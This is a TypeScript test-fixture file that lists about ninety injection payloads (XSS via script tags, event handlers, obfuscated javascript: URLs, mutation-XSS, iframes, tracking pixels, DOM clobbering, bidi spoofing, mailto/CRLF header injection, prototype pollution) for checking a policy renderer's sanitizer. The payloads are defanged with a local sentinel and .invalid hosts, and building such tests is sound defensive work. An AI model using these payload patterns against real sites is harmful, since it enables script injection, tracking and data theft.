/**
 * Attack payloads a hostile or careless policy author could put into any string of a policy. Each one that manages
 * to run script calls the page's sentinel `__pnSentinel()`; each one that manages to load something asks for a host
 * under `.invalid` (a reserved name that never resolves) or the same-origin path `/__pn_beacon__/`, so a recorded
 * request proves a leak without anything leaving the machine.
 */

export type PayloadClass =
  | 'script'
  | 'event-handler'
  | 'url-scheme'
  | 'markdown'
  | 'mutation-xss'
  | 'shadow-dom'
  | 'embedding'
  | 'navigation'
  | 'tracking'
  | 'clobbering'
  | 'target-blank'
  | 'bidi'
  | 'i18n'
  | 'mailto'
  | 'json';

export interface Payload {
  /** Stable name for reports. */
  id: string;
  class: PayloadClass;
  text: string;
}

const RAW: Array<[PayloadClass, string, string]> = [
  ['script', 'script-tag', '<script>__pnSentinel()</script>'],
  ['script', 'script-uppercase-src', '<SCRIPT SRC=//tracker.invalid/x.js></SCRIPT>'],
  ['script', 'script-split', '<scr<script>ipt>__pnSentinel()</scr</script>ipt>'],
  ['script', 'attribute-breakout', '"><script>__pnSentinel()</script>'],
  ['script', 'single-quote-breakout', "'><img src=x onerror=__pnSentinel()>"],
  ['script', 'template-literal-breakout', '${__pnSentinel()}`;__pnSentinel();`'],
  ['event-handler', 'img-onerror', '<img src=x onerror=__pnSentinel()>'],
  ['event-handler', 'svg-onload', '<svg onload=__pnSentinel()>'],
  ['event-handler', 'body-onload', '<body onload=__pnSentinel()>'],
  ['event-handler', 'details-ontoggle', '<details open ontoggle=__pnSentinel()><summary>x</summary></details>'],
  ['event-handler', 'input-autofocus', '<input autofocus onfocus=__pnSentinel()>'],
  ['event-handler', 'video-source-onerror', '<video><source onerror=__pnSentinel()></video>'],
  ['event-handler', 'anchor-onclick', '<a href="#" onclick="__pnSentinel()">click</a>'],
  ['event-handler', 'unquoted-mouseover', 'x onmouseover=__pnSentinel() y'],
  ['url-scheme', 'javascript', 'javascript:__pnSentinel()'],
  ['url-scheme', 'javascript-mixed-case', 'JaVaScRiPt:__pnSentinel()'],
  ['url-scheme', 'javascript-entity', '&#106;avascript:__pnSentinel()'],
  ['url-scheme', 'javascript-hex-entity-colon', '&#x6A;avascript&colon;__pnSentinel()'],
  ['url-scheme', 'javascript-tab', 'java\tscript:__pnSentinel()'],
  ['url-scheme', 'javascript-newline', 'java\nscript:__pnSentinel()'],
  ['url-scheme', 'javascript-control-prefix', '\u0001javascript:__pnSentinel()'],
  ['url-scheme', 'javascript-leading-space', ' javascript:__pnSentinel()'],
  ['url-scheme', 'javascript-nul', 'java\u0000script:__pnSentinel()'],
  ['url-scheme', 'vbscript', 'vbscript:msgbox(1)'],
  ['url-scheme', 'data-html', 'data:text/html;base64,PHNjcmlwdD5fX3BuU2VudGluZWwoKTwvc2NyaXB0Pg=='],
  ['url-scheme', 'data-svg', 'data:image/svg+xml,<svg onload=__pnSentinel()>'],
  ['url-scheme', 'https-quote-breakout', 'https://ok.example/"onmouseover="__pnSentinel()'],
  ['url-scheme', 'http-plain', 'http://tracker.invalid/plain'],
  ['url-scheme', 'protocol-relative', '//tracker.invalid/relative'],
  ['markdown', 'link-javascript', '[click](javascript:__pnSentinel())'],
  ['markdown', 'link-javascript-upper', '[click](JAVASCRIPT:__pnSentinel())'],
  ['markdown', 'link-entity', '[click](&#x6A;avascript:__pnSentinel())'],
  ['markdown', 'link-entity-colon', '[click](javascript&#58;__pnSentinel())'],
  ['markdown', 'link-angle-destination', '[click](<javascript:__pnSentinel()>)'],
  ['markdown', 'reference-definition', '[click][evil]\n\n[evil]: javascript:__pnSentinel()'],
  [
    'markdown',
    'reference-definition-data',
    '[click][evil]\n\n[evil]: data:text/html,<script>__pnSentinel()</script> "t"',
  ],
  ['markdown', 'autolink-javascript', '<javascript:__pnSentinel()>'],
  ['markdown', 'autolink-vbscript', '<vbscript:msgbox(1)>'],
  ['markdown', 'title-breakout', '[a](https://ok.example "x\\" onmouseover=\\"__pnSentinel()")'],
  ['markdown', 'title-single-quote-breakout', "[a](https://ok.example 'x' onclick='__pnSentinel()')"],
  ['markdown', 'code-span-html', '`<img src=x onerror=__pnSentinel()>`'],
  ['markdown', 'fenced-html', '```html\n<script>__pnSentinel()</script>\n```'],
  ['markdown', 'www-autolink', 'see www.tracker.invalid/x'],
  ['mutation-xss', 'noscript-title', '<noscript><p title="</noscript><img src=x onerror=__pnSentinel()>">'],
  ['mutation-xss', 'math-mtext-mglyph', '<math><mtext><table><mglyph><style><img src=x onerror=__pnSentinel()>'],
  ['mutation-xss', 'svg-style', '<svg><style><img src=x onerror=__pnSentinel()></style></svg>'],
  [
    'mutation-xss',
    'annotation-xml',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=__pnSentinel()></annotation-xml></math>',
  ],
  ['mutation-xss', 'svg-p-style', '<svg></p><style><a id="</style><img src=1 onerror=__pnSentinel()>">'],
  [
    'mutation-xss',
    'form-math-nesting',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__pnSentinel()>',
  ],
  [
    'shadow-dom',
    'declarative-shadow-root',
    '<div><template shadowrootmode="open"><img src=x onerror=__pnSentinel()></template></div>',
  ],
  ['shadow-dom', 'legacy-shadowroot', '<template shadowroot="open"><script>__pnSentinel()</script></template>'],
  ['embedding', 'iframe-srcdoc', '<iframe srcdoc="<script>parent.__pnSentinel()</script>"></iframe>'],
  ['embedding', 'iframe-javascript', '<iframe src="javascript:parent.__pnSentinel()"></iframe>'],
  ['embedding', 'object-data', '<object data="data:text/html,<script>parent.__pnSentinel()</script>"></object>'],
  ['embedding', 'embed-remote', '<embed src="https://tracker.invalid/x.swf">'],
  ['navigation', 'base-href', '<base href="https://tracker.invalid/">'],
  ['navigation', 'meta-refresh', '<meta http-equiv="refresh" content="0;url=https://tracker.invalid/">'],
  [
    'navigation',
    'form-formaction',
    '<form action="https://tracker.invalid/"><button formaction="javascript:__pnSentinel()">Send</button></form>',
  ],
  ['navigation', 'link-prefetch', '<link rel=prefetch href=//tracker.invalid/prefetch>'],
  ['tracking', 'markdown-image', '![pixel](https://tracker.invalid/pixel.png)'],
  ['tracking', 'markdown-image-same-origin', '![pixel](/__pn_beacon__/md.png "t")'],
  ['tracking', 'image-in-link', '[![x](https://tracker.invalid/i.png)](https://ok.example)'],
  ['tracking', 'img-same-origin', '<img src=/__pn_beacon__/img.png>'],
  ['tracking', 'img-srcset', '<img srcset="https://tracker.invalid/s.png 1x">'],
  ['tracking', 'style-import', '<style>@import url(https://tracker.invalid/i.css);</style>'],
  ['tracking', 'style-attribute-url', '<p style="background:url(https://tracker.invalid/bg.png)">x</p>'],
  ['tracking', 'style-attribute-same-origin', '<div style="background-image:url(\'/__pn_beacon__/css.png\')">x</div>'],
  ['tracking', 'stylesheet-link', '<link rel="stylesheet" href="https://tracker.invalid/x.css">'],
  ['tracking', 'video-poster', '<video poster=https://tracker.invalid/p.png></video>'],
  ['tracking', 'audio-autoplay', '<audio src=/__pn_beacon__/a.mp3 autoplay></audio>'],
  ['tracking', 'css-url-text', 'url(https://tracker.invalid/t.png) @import "//tracker.invalid/i.css";'],
  ['clobbering', 'clobber-sentinel', '<a id="__pnSentinel" name="__pnSentinel">x</a>'],
  ['clobbering', 'clobber-document', '<form name="body"><input name="attributes"></form><img name="getElementById">'],
  ['clobbering', 'clobber-anchor-id', '<h2 id="right-erasure">fake right</h2>'],
  ['target-blank', 'target-blank', '<a href="https://ok.example" target="_blank">x</a>'],
  ['target-blank', 'target-blank-opener', '<a href=https://ok.example target=_blank rel=opener>x</a>'],
  ['bidi', 'link-text-override', '[invoice\u202Egnp.exe](https://ok.example/\u202Eexe.png)'],
  ['bidi', 'text-override', '\u202Emoc.elpmaxe-ko\u202C see'],
  ['bidi', 'isolate-override', '\u2066evil\u2069\u202E.example\u202C'],
  ['i18n', 'interpolation', '{{title}} {{count}}'],
  ['i18n', 'unescaped-interpolation', '{{- right}} <b>{{subject}}</b>'],
  ['i18n', 'nesting', '$t(errors.title) $t(rights.copyLink, {"right": "<img src=x onerror=__pnSentinel()>"})'],
  ['i18n', 'html-with-placeholder', '<b onclick=__pnSentinel()>{{pointer}}</b>'],
  ['mailto', 'mailto-header-injection', 'dpo?bcc=spy%40tracker.invalid@acme.example'],
  ['mailto', 'mailto-cc-query', 'dpo@acme.example?cc=spy@tracker.invalid'],
  ['mailto', 'crlf', 'x%0d%0aBcc:spy@tracker.invalid\r\nSet-Cookie: a=b'],
  ['json', 'json-breakout', '\\"}]},"__proto__":{"polluted":true},"x":{"y":["'],
];

export const PAYLOADS: readonly Payload[] = RAW.map(([cls, id, text]) => ({ id, class: cls, text }));
